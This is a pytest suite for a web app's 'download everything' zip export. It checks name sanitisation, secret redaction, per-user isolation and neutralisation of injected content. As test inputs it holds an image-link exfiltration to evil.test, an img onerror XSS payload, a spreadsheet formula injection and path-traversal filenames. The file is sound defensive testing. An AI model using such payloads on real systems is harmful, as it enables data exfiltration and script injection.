"""Everything mine: a zip that is opened, and every document in it read."""

import csv
import io
import json
import zipfile
from collections.abc import Iterator

import pytest

from council import council_file
from council.export.inert import quoted
from council.export.names import Taken, file_name, slug
from tests.fakes.provider import ScriptedProvider
from tests.people import another, manage
from tests.whole.house import ALUMINIUM, STEEL, SYNTHESIS, House, answer, cut, saying, until, usual

HOSTILE = "![x](https://evil.test/?d=S) <img src=x onerror=alert(1)>\n```\nif a < b:\n```\n"
_ROWS = """
from allauth.account.models import EmailAddress
from allauth.mfa.models import Authenticator
from council.actions import councils
from council.core.plan import Council
from council.models import Call, Key, Person
person = Person.objects.get(username="owner")
spec = Council.model_validate({"name": "Con", "seats": [{"model": "fake/m1"}],
    "judge": {"model": "fake/judge"}})
row = councils.save(person=person, council=spec)
councils.save(person=person, council=spec.model_copy(update={"description": "Newer."}), row=row)
councils.delete(row=councils.duplicate(person=person, council=spec))
EmailAddress.objects.create(user=person, email="ada@example.org", verified=True, primary=True)
Authenticator.objects.create(user=person, type="webauthn", data={"name": "Laptop"})
Key.objects.create(person=person, provider="openai", secret="SENTINEL-SECRET", last4="1234")
Call.objects.create(person=person, council_name="=HYPERLINK(1)", seat="A", attempt=9, model="m")
"""
_FILES = """
import secrets
from council.models import Attachment, Person
person = Person.objects.get(username="slow")
for number in range(40):
    Attachment.objects.create(person=person, name=f"{number}.txt", media_type="text/plain",
        kind="text", size=1, data=secrets.token_bytes(1_000_000))
print(Attachment.objects.filter(person=person).count())
"""


@pytest.fixture(scope="module")
def full(provider: ScriptedProvider) -> Iterator[House]:
    """A house whose owner has something of everything, and a run under way."""
    with House(provider) as house:
        house.script(**usual(m3=[saying(HOSTILE)]))
        first = house.ask("Which frame?", files=[("../../nul.txt", b"Mine."), ("a.txt", b"Too.")])
        house.end_of(first)
        conversation = house.run_row(first)["conversation_id"]
        house.end_of(house.ask("And the fork?", conversation=conversation))
        manage(house.server, _ROWS)
        house.script(**usual(m2=[cut(ALUMINIUM)]))
        under_way = house.ask("Which frame?")
        until(lambda: answer(house.person.document(under_way), "B")["text"], "words of B")
        yield house


def _zip(house: House) -> zipfile.ZipFile:
    answer = house.person.http.get("/settings/data/everything.zip")
    assert answer.headers["content-type"] == "application/zip"
    assert answer.headers["cache-control"] == "private, no-store"
    archive = zipfile.ZipFile(io.BytesIO(answer.content))
    assert archive.testzip() is None
    return archive


def test_the_export_holds_everything_and_names_are_safe(full: House) -> None:
    archive = _zip(full)
    names = archive.namelist()
    assert len({name.casefold() for name in names}) == len(names)
    for name in names:
        parts = name.split("/")
        assert not {"..", "", "nul.txt"} & set(parts)
    day = names[3].split("/")[1].rpartition("-which-frame")[0]
    folder, second = f"conversations/{day}-which-frame", f"conversations/{day}-which-frame-2"
    assert {
        *(
            "README.txt",
            "account.json",
            "settings.json",
            "best-answers.json",
            "api-keys.json",
            "links.json",
            "keys.json",
            "spend.csv",
        ),
        *(f"{folder}/{name}" for name in ("conversation.json", "run-1.json", "run-1.md")),
        *(f"{folder}/{name}" for name in ("run-2.json", "files/_nul.txt", "files/a.txt")),
        *(f"{second}/run-1.json", "councils/_con.json", "councils/_con/version-1.json"),
        "councils-deleted/con-copy.json",
    } <= set(names)
    assert archive.read(f"{folder}/files/a.txt") == b"Too."


def test_every_document_of_the_export_is_what_it_says(full: House) -> None:
    archive = _zip(full)
    conversations = [n for n in archive.namelist() if n.endswith("/conversation.json")]
    runs = 0
    for name in conversations:
        about = json.loads(archive.read(name))
        for run in about["runs"]:
            document = json.loads(archive.read(name.replace("conversation.json", run["file"])))
            assert document["id"] == run["id"]
            if document["state"] == "done":
                assert document == full.person.document(run["id"])
            runs += 1
    assert (len(conversations), runs) == (2, 3)
    for name in (n for n in archive.namelist() if n.startswith("councils")):
        text = archive.read(name).decode()
        assert council_file.write(council_file.read(text)) == text
    keys = json.loads(archive.read("keys.json"))["keys"]
    assert [(k["provider"], k["last4"]) for k in keys] == [("openai", "1234")]
    assert not any(b"SENTINEL-SECRET" in archive.read(n) for n in archive.namelist())
    account = json.loads(archive.read("account.json"))
    assert account["addresses"][0]["email"] == "ada@example.org"
    assert account["passkeys"][0]["name"] == "Laptop"
    calls = list(csv.DictReader(io.StringIO(archive.read("spend.csv").decode())))
    assert len(calls) == full.rows("SELECT count(*) AS n FROM council_call")[0]["n"]
    assert "'=HYPERLINK(1)" in {call["council"] for call in calls}


def test_a_run_reads_as_a_text_in_which_nothing_is_alive(full: House) -> None:
    archive = _zip(full)
    text = next(archive.read(n).decode() for n in archive.namelist() if n.endswith("run-1.md"))
    for words in (STEEL, ALUMINIUM, SYNTHESIS, "## Verdict", "## A · fake/m1"):
        assert words in text
    assert r"!\[x](https://evil.test/?d=S)" in text
    assert "&lt;img" in text
    assert "> if a < b:" in text, "code stays as it was written"


def test_another_person_gets_only_their_own(full: House) -> None:
    person = another(full.server)
    archive = zipfile.ZipFile(io.BytesIO(person.http.get("/settings/data/everything.zip").content))
    person.http.close()
    assert json.loads(archive.read("account.json"))["name"] == "boole"
    assert not [n for n in archive.namelist() if n.startswith(("conversations", "councils"))]


def test_nothing_is_gathered_for_a_reader_who_is_slow(full: House) -> None:
    person = another(full.server, "slow")
    made = int(manage(full.server, _FILES))
    with person.http.stream("GET", "/settings/data/everything.zip") as answer:
        parts = answer.iter_raw(64 * 1024)
        begin = next(parts)
        manage(full.server, "from council.models import Attachment as A; A.objects.filter("
               "person__username='slow').delete()")  # fmt: skip
        whole = begin + b"".join(parts)
    person.http.close()
    with zipfile.ZipFile(io.BytesIO(whole)) as archive:
        assert archive.testzip() is None
        files = [name for name in archive.namelist() if name.startswith("waiting/")]
    assert 0 < len(files) < made / 2, "made when they are sent: what is deleted by then is left out"


def test_the_command_writes_the_same_documents(full: House) -> None:
    path = full.server.data_dir / "all.zip"
    done = full.server.manage("export-person", "owner", str(path))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(path) as archive:
        assert archive.namelist() == _zip(full).namelist()
    assert full.server.manage("export-person", "owner", str(path)).returncode == 2, "never over it"
    assert full.server.manage("export-person", "nobody", str(path)).returncode == 2


@pytest.mark.parametrize(
    ("name", "safe"),
    [
        ("../../etc/passwd", "etc_passwd"),
        ("CON", "_CON"),
        ("com1.txt", "_com1.txt"),
        (".hidden", "hidden"),
        ("a\u202etxt.exe", "a_txt.exe"),
        ("x" * 300 + ".pdf", "x" * 60 + ".pdf"),
        ("...", "file"),
        ("Übersicht 2026.pdf", "Übersicht 2026.pdf"),
    ],
)
def test_a_name_is_safe_on_every_system(name: str, safe: str) -> None:
    assert file_name(name) == safe
    assert slug("Con: was ist „besser“?") == "con-was-ist-besser"
    assert slug("aux") == "aux-"
    taken = Taken()
    assert [taken.free(n) for n in ("a.txt", "A.TXT", "a.txt")] == ["a.txt", "A-2.TXT", "a-3.txt"]


def test_what_somebody_wrote_cannot_leave_its_block_quote() -> None:
    text = quoted("```\nnever closed\r# Not ours\n![x](y)")
    assert all(line.startswith(">") for line in text.split("\n"))
    assert quoted("![a](b)\n\n    ![c](d)") == "> !\\[a]\\(b)\n>\n>     !\\[c]\\(d)"
